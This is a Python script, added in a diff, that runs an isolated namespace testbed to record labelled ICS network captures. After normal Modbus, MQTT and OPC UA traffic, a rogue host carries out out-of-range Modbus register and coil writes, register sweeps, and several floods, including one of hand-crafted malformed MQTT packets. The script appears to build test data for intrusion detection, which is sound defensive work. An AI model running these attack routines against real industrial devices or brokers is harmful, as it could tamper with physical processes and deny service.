@@ -1,0 +1,598 @@
+#!/usr/bin/env python3
+"""Capture a multi-RTU plant that runs normally, then floods and injections by real peers, in network namespaces.
+
+Contract
+--------
+``sudo python pcaps/make_heldout_scenarios.py [--duration 24] [--out DIR|F.pcap]``
+writes ``heldout-scenarios.pcap`` (classic pcap, Ethernet) and, beside it,
+``heldout-scenarios.json``: ``start``, ``end``, ``normal_fraction`` and, per
+attack, the packet-time window ``[start, end]`` its role measured around it
+(wall clock inside the namespace, the clock tcpdump stamps frames with).  Needs
+root, ``ip netns``, ``tcpdump`` and ``mosquitto``; the peers are pymodbus,
+paho-mqtt, mosquitto and asyncua.  The namespace, bridge and tcpdump machinery
+is make_demo_plant.py's, on 10.50.0.0/24.
+
+These are the attack families of public labelled captures that
+``attack-scenarios.pcap`` does not hold (the CIC Modbus 2023 and multi-RTU
+Modbus captures: command injection, read sweeps; MQTTset and
+MQTT-IoT-IDS2020: publish floods with large payloads, malformed packets;
+the OPC UA dataset of Pinto et al. 2020: denial of service by connection and
+message floods).  The first ``NORMAL_FRACTION`` of the scenario is normal
+operation, which goes on while the attacks run:
+
+* hmi polls four RTUs behind one gateway (units 1-4: FC 3 HR 0+10, FC 1 coils
+  0+16) at 2 Hz on one connection, and writes unit 1's setpoint (FC 6 HR 1)
+  with a plausible value twice;
+* ews reads unit 2's HR 40+4 at 5 Hz over a new connection each time (as some
+  SCADA drivers do): 50 connections in 10 s, the benign side of a connection flood;
+* sensor publishes plant/rtu/temperature and plant/rtu/level (QoS 0, 1 s,
+  a few bytes) to mosquitto, and once a 1 MiB plant/rtu/firmware blob (QoS 1):
+  the benign side of a byte flood; historian subscribes plant/#;
+* scada reads Line1.Temperature every second over an OPC UA session (None).
+
+Then the attacks, one after another (``ATTACKS`` in order; fractions in ``TIMELINE``):
+
+1. ``modbus_injection``: rogue (a host never seen before) writes out-of-range
+   values to every RTU: FC 6 HR 1 = 65535, FC 16 HR 2..5, FC 5 coil 20 and
+   FC 15 coils 24..31 (coils nobody ever wrote), units 1-4 (pymodbus client).
+2. ``rtu_read_sweep``: rogue reads HR 0..199 of units 1-4 in blocks of 10
+   (exceptions 2 past HR 49).
+3. ``modbus_query_flood``: rogue sends 4000 reads of RTU 1's HR 0+10 (the
+   HMI's own poll) as fast as pymodbus answers them, one connection (CIC
+   Modbus 2023's "query flooding").
+4. ``mqtt_publish_flood``: rogue publishes 3000 messages of 2 KiB on the
+   existing topics as fast as paho-mqtt sends them (QoS 0), one connection.
+5. ``mqtt_client_flood``: rogue runs 20 MQTT clients one after another, each
+   publishing 300 small messages on the existing topics and leaving (the
+   shape of MQTT-malaria's floods: many short clients from one address).
+6. ``mqtt_malformed_flood``: rogue sends 200 malformed MQTT packets, each on a
+   connection of its own (bad protocol name, reserved flags, QoS 3, a remaining
+   length that lies, an invalid UTF-8 topic); mosquitto drops each connection.
+7. ``opcua_connection_flood``: rogue opens 300 connections with asyncua's
+   client: Hello, OpenSecureChannel (None), close, as fast as it can.
+8. ``opcua_session_flood``: rogue opens one secure channel and creates 120
+   sessions on it with asyncua (CreateSession; never activated nor closed).
+9. ``opcua_request_flood``: rogue opens one session and sends 5000 Read
+   requests, 50 in flight at a time.
+
+The same file is the program that runs inside each namespace (``--role``).
+"""
+from __future__ import annotations
+
+import argparse
+import asyncio
+import json
+import logging
+import os
+import shutil
+import socket
+import struct
+import subprocess
+import sys
+import tempfile
+import time
+from pathlib import Path
+
+HERE = Path(__file__).resolve().parent
+if str(HERE) not in sys.path:
+    sys.path.insert(0, str(HERE))
+
+import make_demo_plant as plant  # noqa: E402  (namespace/bridge/tcpdump helpers)
+from make_demo_plant import Host  # noqa: E402
+
+DEFAULT_PREFIX = "otwho"
+DEFAULT_DURATION = 24.0
+MIN_DURATION = 16.0
+PCAP_NAME = "heldout-scenarios.pcap"
+
+SUBNET_PREFIX_LEN = 24
+BRIDGE_MAC = "02:00:0a:32:00:fe"
+HOSTS: tuple[Host, ...] = (
+    Host("gw", "10.50.0.10", "00:90:e8:32:00:0a", "Modbus/TCP gateway 502 (pymodbus; RTUs 1-4, HR 0-49, coils 0-31)"),
+    Host("hmi", "10.50.0.21", "00:00:bc:32:00:15", "Modbus/TCP client polling RTUs 1-4 at 2 Hz; setpoint writes"),
+    Host("ews", "10.50.0.31", "00:14:22:32:00:1f", "engineering station: a new Modbus connection per read, 5 Hz"),
+    Host("scada", "10.50.0.22", "02:00:0a:32:00:16", "OPC UA client reading every 1 s (None, anonymous)"),
+    Host("historian", "10.50.0.41", "02:00:0a:32:00:29", "MQTT subscriber plant/#"),
+    Host("broker", "10.50.0.50", "02:00:0a:32:00:32", "mosquitto 1883, anonymous"),
+    Host("opcua", "10.50.0.60", "02:00:0a:32:00:3c", "asyncua OPC UA server 4840 (None)"),
+    Host("rogue", "10.50.0.66", "02:00:0a:32:00:42", "attacker: Modbus injection and read sweep, MQTT publish and "
+         "malformed floods, OPC UA connection and request floods"),
+    Host("sensor", "10.50.0.71", "02:00:0a:32:00:47", "MQTT 3.1.1 publisher plant/rtu/temperature, level"),
+)
+IP = {h.name: h.ip for h in HOSTS}
+SERVERS = ("gw", "broker", "opcua")
+CLIENTS = ("hmi", "ews", "sensor", "historian", "scada", "rogue")
+
+MODBUS_PORT, MQTT_PORT, OPCUA_PORT = 502, 1883, 4840
+OPCUA_URL = f"opc.tcp://{IP['opcua']}:{OPCUA_PORT}/otwatch/heldout"
+OPCUA_NS_URI = "urn:otwatch:heldout:plant"
+RTUS = (1, 2, 3, 4)
+HOLDING_COUNT = 50
+COIL_COUNT = 32
+POLL_HZ = 2.0
+CLIENT_STOP_MARGIN = 1.0
+TOPICS = ("plant/rtu/temperature", "plant/rtu/level")
+FIRMWARE_TOPIC = "plant/rtu/firmware"
+FIRMWARE_BYTES = 1 << 20
+EWS_HZ = 5.0
+
+FLOOD_PUBLISHES = 3000
+FLOOD_PAYLOAD = 2048
+CLIENT_FLOOD_CLIENTS = 20
+CLIENT_FLOOD_PUBLISHES = 300
+MALFORMED_PACKETS = 200
+QUERY_FLOOD_REQUESTS = 4000
+OPCUA_CONNECTIONS = 300
+OPCUA_READS = 5000
+OPCUA_SESSIONS = 120
+OPCUA_IN_FLIGHT = 50
+
+NORMAL_FRACTION = 0.40
+"""The normal part: the scenario's first 40 %.  Nothing attacks before it ends."""
+TIMELINE = {
+    "hmi_write_1": 0.12,
+    "firmware": 0.20,
+    "hmi_write_2": 0.30,
+    "modbus_injection": 0.42,
+    "rtu_read_sweep": 0.46,
+    "modbus_query_flood": 0.50,
+    "mqtt_publish_flood": 0.55,
+    "mqtt_client_flood": 0.60,
+    "mqtt_malformed_flood": 0.65,
+    "opcua_connection_flood": 0.73,
+    "opcua_session_flood": 0.78,
+    "opcua_request_flood": 0.84,
+}
+ATTACKS = ("modbus_injection", "rtu_read_sweep", "modbus_query_flood", "mqtt_publish_flood", "mqtt_client_flood",
+           "mqtt_malformed_flood", "opcua_connection_flood", "opcua_session_flood", "opcua_request_flood")
+WINDOW_MARK = "ATTACK-WINDOW"
+
+log = logging.getLogger("heldout-scenarios")
+
+
+# ==========================================================================
+# Builder (root namespace; only ever touches its own namespaces)
+# ==========================================================================
+def write_mosquitto_config(work: Path) -> Path:
+    conf = work / "mosquitto.conf"
+    conf.write_text(
+        "# otwatch held-out scenarios broker\n"
+        "user root\n"
+        f"listener {MQTT_PORT} {IP['broker']}\n"
+        "allow_anonymous true\n"
+        "persistence false\n"
+        "sys_interval 0\n"
+        "max_queued_messages 100000\n"
+        "log_dest stderr\n"
+        "log_type error\nlog_type warning\nlog_type notice\n"
+    )
+    return conf
+
+
+def build(args: argparse.Namespace) -> Path:
+    if os.geteuid() != 0:
+        raise SystemExit("make_heldout_scenarios.py needs root (network namespaces, tcpdump)")
+    for tool in ("ip", "tcpdump", "mosquitto"):
+        if shutil.which(tool) is None:
+            raise SystemExit(f"missing tool: {tool}")
+    out = Path(args.out)
+    out_file = out if out.suffix == ".pcap" else out / PCAP_NAME
+    out_file.parent.mkdir(parents=True, exist_ok=True)
+    windows_file = out_file.with_suffix(".json")
+
+    prefix = args.prefix
+    plant.cleanup_namespaces(prefix)
+    work = Path(tempfile.mkdtemp(prefix="otwatch-heldout-"))
+    os.chmod(work, 0o755)
+    p = plant.Plant(prefix, work)
+    failures: list[str] = []
+    me = str(Path(__file__).resolve())
+    try:
+        log.info("building %d namespaces (prefix %s)", len(HOSTS) + 1, prefix)
+        plant.build_topology(prefix, HOSTS, BRIDGE_MAC, SUBNET_PREFIX_LEN)
+        conf = write_mosquitto_config(work)
+        raw = work / "capture.pcap"
+        p.spawn("tcpdump", "sw", ["tcpdump", "-i", "br0", "-s", "0", "-n", "-U", "-Z", "root", "-B", "65536",
+                                  "--immediate-mode", "-w", str(raw)])
+        plant.wait_for_tcpdump(p, raw)
+
+        def role(name, start, stop):
+            p.spawn(name, name, [sys.executable, me, "--role", name, "--start", repr(start), "--end", repr(stop),
+                                 "--work", str(work)])
+
+        p.spawn("broker", "broker", ["mosquitto", "-c", str(conf)])
+        far = time.time() + args.duration + 120
+        for name in ("gw", "opcua"):
+            role(name, time.time(), far)
+        plant.wait_listening(p, prefix, (("broker", "broker", "tcp", MQTT_PORT), ("gw", "gw", "tcp", MODBUS_PORT),
+                                         ("opcua", "opcua", "tcp", OPCUA_PORT)))
+        t0 = time.time()
+        end = t0 + args.duration
+        log.info("servers listening; scenario %.0f s", args.duration)
+        for name in CLIENTS:
+            role(name, t0, end - CLIENT_STOP_MARGIN)
+        while time.time() < end:
+            time.sleep(0.2)
+        for name in CLIENTS:
+            try:
+                rc = p.procs[name].wait(timeout=max(10.0, args.duration / 2))
+            except subprocess.TimeoutExpired:
+                rc = "timeout"
+            if rc != 0:
+                failures.append(f"{name} exited {rc}:\n{p.tail(name, 30)}")
+        for name in SERVERS:
+            if p.procs[name].poll() is not None:
+                failures.append(f"server {name} died early:\n{p.tail(name, 30)}")
+            p.stop(name)
+        time.sleep(0.3)
+        p.stop("tcpdump")
+        windows = collect_windows(work)
+        missing = [a for a in ATTACKS if a not in windows]
+        if missing:
+            failures.append(f"attacks without a window: {missing}")
+        shutil.copyfile(raw, out_file)
+        os.chmod(out_file, 0o644)
+        windows_file.write_text(json.dumps({"normal_fraction": NORMAL_FRACTION, "start": t0, "end": end,
+                                            "attacks": windows}, indent=1, sort_keys=True) + "\n")
+        os.chmod(windows_file, 0o644)
+    finally:
+        p.stop_all()
+        plant.cleanup_namespaces(prefix)
+        if args.keep_work:
+            log.info("role logs kept in %s", work)
+        else:
+            shutil.rmtree(work, ignore_errors=True)
+    if failures:
+        raise SystemExit("some roles failed:\n" + "\n\n".join(failures))
+    log.info("wrote %s (%d bytes) and %s", out_file, out_file.stat().st_size, windows_file)
+    return out_file
+
+
+def collect_windows(work: Path) -> dict:
+    """{attack: [start, end]} from the ATTACK-WINDOW lines the roles printed."""
+    out = {}
+    for logf in work.glob("*.log"):
+        for line in logf.read_text(errors="replace").splitlines():
+            if line.startswith(WINDOW_MARK + " "):
+                _, name, a, b = line.split()
+                out[name] = [float(a), float(b)]
+    return dict(sorted(out.items()))
+
+
+# ==========================================================================
+# Roles (inside the namespaces)
+# ==========================================================================
+def at(args, key: str) -> float:
+    return args.start + (args.end - args.start) * TIMELINE[key]
+
+
+class window:
+    """Print the attack's wall-clock window (the clock tcpdump uses) around a block."""
+
+    def __init__(self, name: str):
+        self.name = name
+
+    def __enter__(self):
+        self.t0 = time.time()
+        return self
+
+    def __exit__(self, *exc):
+        if exc[0] is None:
+            print(f"{WINDOW_MARK} {self.name} {self.t0 - 0.001:.6f} {time.time() + 0.05:.6f}", flush=True)
+
+
+async def gw_main(args) -> None:
+    from pymodbus.server import ModbusTcpServer
+    from pymodbus.simulator import DataType, SimData, SimDevice
+
+    def device(unit: int) -> SimDevice:
+        return SimDevice(unit, simdata=(
+            [SimData(0, values=[bool((unit + i) % 3 == 0) for i in range(COIL_COUNT)], datatype=DataType.BITS)],
+            [SimData(0, values=[i % 2 == 0 for i in range(16)], datatype=DataType.BITS)],
+            [SimData(0, values=[unit * 100 + i for i in range(HOLDING_COUNT)], datatype=DataType.REGISTERS)],
+            [SimData(0, values=[unit * 10 + i for i in range(16)], datatype=DataType.REGISTERS)],
+        ))
+
+    server = ModbusTcpServer([device(u) for u in RTUS], address=(IP["gw"], MODBUS_PORT))
+    stop = plant.install_sigterm(asyncio.get_running_loop())
+    task = asyncio.create_task(server.serve_forever())
+    await stop.wait()
+    await server.shutdown()
+    task.cancel()
+    await asyncio.gather(task, return_exceptions=True)
+
+
+async def opcua_server_main(args) -> None:
+    from asyncua import Server, ua
+
+    server = Server()
+    await server.init()
+    server.set_endpoint(OPCUA_URL)
+    server.set_server_name("otwatch held-out OPC UA server")
+    server.set_security_policy([ua.SecurityPolicyType.NoSecurity])
+    idx = await server.register_namespace(OPCUA_NS_URI)
+    line = await server.nodes.objects.add_object(idx, "Line1")
+    temp = await line.add_variable(idx, "Temperature", 21.5)
+    stop = plant.install_sigterm(asyncio.get_running_loop())
+    async with server:
+        n = 0
+        while not stop.is_set():
+            n += 1
+            await temp.write_value(21.5 + (n % 20) * 0.1)
+            try:
+                await asyncio.wait_for(stop.wait(), 0.5)
+            except asyncio.TimeoutError:
+                pass
+
+
+async def hmi_main(args) -> None:
+    c = await plant.modbus_client(IP["gw"], args.end)
+    period = 1.0 / POLL_HZ
+    next_t = time.time()
+    writes = [("hmi_write_1", 215), ("hmi_write_2", 220)]
+    while time.time() + period < args.end:
+        for unit in RTUS:
+            await c.read_holding_registers(0, count=10, device_id=unit)
+            await c.read_coils(0, count=16, device_id=unit)
+        if writes and time.time() >= at(args, writes[0][0]):
+            await c.write_register(1, writes.pop(0)[1], device_id=1)
+        next_t += period
+        await asyncio.sleep(max(0.0, next_t - time.time()))
+    c.close()
+
+
+async def ews_main(args) -> None:
+    period = 1.0 / EWS_HZ
+    next_t = time.time()
+    while time.time() + period < args.end:
+        c = await plant.modbus_client(IP["gw"], args.end)
+        await c.read_holding_registers(40, count=4, device_id=2)
+        c.close()
+        next_t += period
+        await asyncio.sleep(max(0.0, next_t - time.time()))
+
+
+def _mqtt_client(client_id: str):
+    import paho.mqtt.client as mqtt
+
+    return mqtt.Client(mqtt.CallbackAPIVersion.VERSION2, client_id=client_id, protocol=mqtt.MQTTv311)
+
+
+def role_sensor(args) -> None:
+    c = _mqtt_client("rtu-sensor")
+    plant._mqtt_connect(c, args.end, keepalive=30, broker=IP["broker"])
+    n = 0
+    firmware_sent = False
+    while time.time() + 1.0 < args.end:
+        n += 1
+        c.publish(TOPICS[0], f"{21.5 + (n % 10) * 0.1:.1f}", qos=0)
+        c.publish(TOPICS[1], f"{3.20 + (n % 7) * 0.01:.2f}", qos=0)
+        if not firmware_sent and time.time() >= at(args, "firmware"):
+            c.publish(FIRMWARE_TOPIC, bytes(range(256)) * (FIRMWARE_BYTES // 256), qos=1).wait_for_publish(5)
+            firmware_sent = True
+        time.sleep(1.0)
+    c.disconnect()
+    c.loop_stop()
+
+
+def role_historian(args) -> None:
+    c = _mqtt_client("historian")
+    plant._mqtt_connect(c, args.end, keepalive=30, broker=IP["broker"])
+    c.subscribe("plant/#", 0)
+    plant.wait_until(args.end - 0.3)
+    c.disconnect()
+    c.loop_stop()
+
+
+async def scada_main(args) -> None:
+    from asyncua import Client
+
+    client = Client(OPCUA_URL, timeout=4)
+    while True:
+        try:
+            await client.connect()
+            break
+        except (OSError, asyncio.TimeoutError):
+            if time.time() > args.end:
+                raise
+            await asyncio.sleep(0.3)
+    try:
+        idx = await client.get_namespace_index(OPCUA_NS_URI)
+        temp = await client.nodes.objects.get_child([f"{idx}:Line1", f"{idx}:Temperature"])
+        while time.time() + 1.0 < args.end:
+            await temp.read_value()
+            await asyncio.sleep(1.0)
+    finally:
+        await client.disconnect()
+
+
+# -- the attacker ---------------------------------------------------------------------
+async def modbus_injection(args) -> None:
+    c = await plant.modbus_client(IP["gw"], args.end)
+    for unit in RTUS:
+        await c.write_register(1, 65535, device_id=unit)
+        await c.write_registers(2, [0xFFFF, 0x8000, 0x7FFF, 0xDEAD], device_id=unit)
+        await c.write_coil(20, True, device_id=unit)
+        await c.write_coils(24, [True] * 8, device_id=unit)
+    c.close()
+
+
+async def rtu_read_sweep(args) -> None:
+    c = await plant.modbus_client(IP["gw"], args.end)
+    for unit in RTUS:
+        for start in range(0, 200, 10):
+            await c.read_holding_registers(start, count=10, device_id=unit)
+    c.close()
+
+
+async def modbus_query_flood(args) -> None:
+    c = await plant.modbus_client(IP["gw"], args.end)
+    for _ in range(QUERY_FLOOD_REQUESTS):
+        await c.read_holding_registers(0, count=10, device_id=1)
+    c.close()
+
+
+def mqtt_publish_flood(args) -> None:
+    c = _mqtt_client("flood-7731")
+    c.max_queued_messages_set(0)
+    plant._mqtt_connect(c, args.end, keepalive=30, broker=IP["broker"])
+    payload = bytes(range(256)) * (FLOOD_PAYLOAD // 256)
+    infos = [c.publish(TOPICS[i % 2], payload, qos=0) for i in range(FLOOD_PUBLISHES)]
+    deadline = time.time() + 10
+    while any(not i.is_published() for i in infos) and time.time() < deadline:
+        time.sleep(0.01)
+    c.disconnect()
+    c.loop_stop()
+
+
+def mqtt_client_flood(args) -> None:
+    for n in range(CLIENT_FLOOD_CLIENTS):
+        c = _mqtt_client(f"malaria-{n:03d}")
+        plant._mqtt_connect(c, args.end, keepalive=30, broker=IP["broker"])
+        infos = [c.publish(TOPICS[i % 2], f"{n}:{i}:" + "x" * 48, qos=0) for i in range(CLIENT_FLOOD_PUBLISHES)]
+        deadline = time.time() + 5
+        while any(not i.is_published() for i in infos) and time.time() < deadline:
+            time.sleep(0.005)
+        c.disconnect()
+        c.loop_stop()
+
+
+def _mqtt_str(b: bytes) -> bytes:
+    return struct.pack("!H", len(b)) + b
+
+
+def malformed_packets() -> list[bytes]:
+    """MQTT packets a broker must refuse (OASIS MQTT 3.1.1), the shapes fuzzers such as MQTTSA send."""
+    def connect(name: bytes, level: int, flags: int) -> bytes:
+        body = _mqtt_str(name) + bytes([level, flags]) + struct.pack("!H", 30) + _mqtt_str(b"fuzz")
+        return bytes([0x10, len(body)]) + body
+
+    ok_connect = connect(b"MQTT", 4, 0x02)
+    return [
+        connect(b"MQTX", 4, 0x02),                                   # bad protocol name
+        connect(b"MQTT", 4, 0x03),                                   # reserved connect flag set (§3.1.2.3)
+        ok_connect + bytes([0x36, 0x05]) + _mqtt_str(b"a/") + b"x",  # PUBLISH with QoS 3 (§3.3.1.2)
+        ok_connect + bytes([0x30, 0x40]) + _mqtt_str(b"plant/rtu/level") + b"1.0",  # remaining length lies
+        ok_connect + bytes([0x30, 0x07]) + _mqtt_str(b"\xff\xfe\x00") + b"xx",      # topic not UTF-8, has NUL
+        ok_connect + bytes([0x82, 0x03, 0x00, 0x01, 0x00]),          # SUBSCRIBE with reserved bits wrong, empty
+        connect(b"MQTT", 4, 0x02)[:-3] + b"\xff\xff\xff\xff\x7f",     # a remaining length of 5 bytes
+    ]
+
+
+def mqtt_malformed_flood(args) -> None:
+    pkts = malformed_packets()
+    for i in range(MALFORMED_PACKETS):
+        with socket.create_connection((IP["broker"], MQTT_PORT), timeout=2) as s:
+            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+            s.sendall(pkts[i % len(pkts)])
+            s.settimeout(0.05)
+            try:
+                while s.recv(4096):
+                    pass
+            except (socket.timeout, ConnectionResetError):
+                pass
+
+
+async def opcua_connection_flood(args) -> None:
+    from asyncua import Client
+
+    for _ in range(OPCUA_CONNECTIONS):
+        c = Client(OPCUA_URL, timeout=2)
+        await c.connect_socket()
+        try:
+            await c.send_hello()
+            await c.open_secure_channel()
+        finally:
+            c.disconnect_socket()
+
+
+async def opcua_session_flood(args) -> None:
+    from asyncua import Client
+
+    c = Client(OPCUA_URL, timeout=2)
+    await c.connect_socket()
+    try:
+        await c.send_hello()
+        await c.open_secure_channel()
+        for _ in range(OPCUA_SESSIONS):
+            await c.create_session()
+    finally:
+        c.disconnect_socket()
+
+
+async def opcua_request_flood(args) -> None:
+    from asyncua import Client
+
+    async with Client(OPCUA_URL, timeout=10) as c:
+        idx = await c.get_namespace_index(OPCUA_NS_URI)
+        temp = await c.nodes.objects.get_child([f"{idx}:Line1", f"{idx}:Temperature"])
+        done = 0
+        while done < OPCUA_READS:
+            await asyncio.gather(*(temp.read_value() for _ in range(OPCUA_IN_FLIGHT)))
+            done += OPCUA_IN_FLIGHT
+
+
+def role_rogue(args) -> None:
+    for name, fn in (("modbus_injection", modbus_injection), ("rtu_read_sweep", rtu_read_sweep),
+                     ("modbus_query_flood", modbus_query_flood),
+                     ("mqtt_publish_flood", mqtt_publish_flood), ("mqtt_client_flood", mqtt_client_flood),
+                     ("mqtt_malformed_flood", mqtt_malformed_flood),
+                     ("opcua_connection_flood", opcua_connection_flood), ("opcua_session_flood", opcua_session_flood),
+                     ("opcua_request_flood", opcua_request_flood)):
+        plant.wait_until(at(args, name))
+        with window(name):
+            r = fn(args)
+            if asyncio.iscoroutine(r):
+                asyncio.run(r)
+        time.sleep(0.2)     # the last answers and FINs of this attack stay inside its window
+
+
+# ==========================================================================
+def host_table() -> str:
+    return plant.host_table(HOSTS)
+
+
+def main(argv: list[str] | None = None) -> int:
+    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
+                                 formatter_class=argparse.RawDescriptionHelpFormatter)
+    ap.add_argument("--duration", type=float, default=DEFAULT_DURATION,
+                    help=f"scenario length in seconds (default {DEFAULT_DURATION:.0f}, minimum {MIN_DURATION:.0f})")
+    ap.add_argument("--out", default=str(HERE), help=f"output directory (writes {PCAP_NAME}) or a .pcap path")
+    ap.add_argument("--prefix", default=DEFAULT_PREFIX, help=f"namespace name prefix (default {DEFAULT_PREFIX})")
+    ap.add_argument("--keep-work", action="store_true", help="keep the work dir with role logs")
+    ap.add_argument("--role", help=argparse.SUPPRESS)
+    ap.add_argument("--start", type=float, help=argparse.SUPPRESS)
+    ap.add_argument("--end", type=float, help=argparse.SUPPRESS)
+    ap.add_argument("--work", help=argparse.SUPPRESS)
+    args = ap.parse_args(argv)
+    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(name)s %(message)s")
+    if args.role is None:
+        if args.duration < MIN_DURATION:
+            ap.error(f"--duration must be at least {MIN_DURATION:.0f} s")
+        build(args)
+        return 0
+    logging.getLogger("asyncua").setLevel(logging.CRITICAL)
+    logging.getLogger("pymodbus").setLevel(logging.CRITICAL)
+    role = args.role
+    if role == "ifprep":
+        plant.role_ifprep()
+    elif role == "gw":
+        asyncio.run(gw_main(args))
+    elif role == "opcua":
+        asyncio.run(opcua_server_main(args))
+    elif role in ("hmi", "ews", "scada"):
+        plant.install_sigterm()
+        asyncio.run({"hmi": hmi_main, "ews": ews_main, "scada": scada_main}[role](args))
+    elif role == "sensor":
+        role_sensor(args)
+    elif role == "historian":
+        role_historian(args)
+    elif role == "rogue":
+        role_rogue(args)
+    else:
+        raise SystemExit(f"unknown role {role}")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
